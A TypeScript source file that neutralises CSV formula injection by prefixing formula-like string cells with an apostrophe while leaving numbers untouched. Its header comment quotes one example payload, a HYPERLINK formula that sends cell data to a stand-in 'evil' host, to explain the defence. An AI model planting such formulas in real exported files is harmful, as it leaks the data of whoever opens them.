/**
 * CSV formula injection: a spreadsheet opening a CSV runs a cell that starts
 * with `=`, `+`, `-` or `@` (and, in some, a tab or carriage return) as a
 * formula — `=HYPERLINK("http://evil/?"&A1)` in a scraped title leaks data
 * when a journalist opens the download. Such string cells get a leading `'`
 * (OWASP's advice: the spreadsheet shows the text, the `'` is not displayed
 * as part of it). Numbers stay numbers: a number cell is never touched, and a
 * string that is exactly a number (`-3.5`) is not a formula.
 *
 * The site's download button (src/components/download-button.js) applies the
 * same rule in the browser; tests/health.test.ts checks the two agree.
 */

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?$/;

export function csvSafeCell<T>(value: T): T | string {
  if (typeof value !== "string" || !FORMULA_START.test(value) || PLAIN_NUMBER.test(value)) return value;
  return `'${value}`;
}

/** The rows with every formula-like string cell neutralised (a new array of new rows; rows without one are kept as they are). */
export function csvSafeRows<R extends Record<string, unknown>>(rows: R[]): R[] {
  return rows.map((row) => {
    let out: Record<string, unknown> | undefined;
    for (const k in row) {
      const v = row[k];
      if (typeof v === "string" && FORMULA_START.test(v)) {
        const safe = csvSafeCell(v);
        if (safe !== v) (out ??= { ...row })[k] = safe;
      }
    }
    return (out ?? row) as R;
  });
}
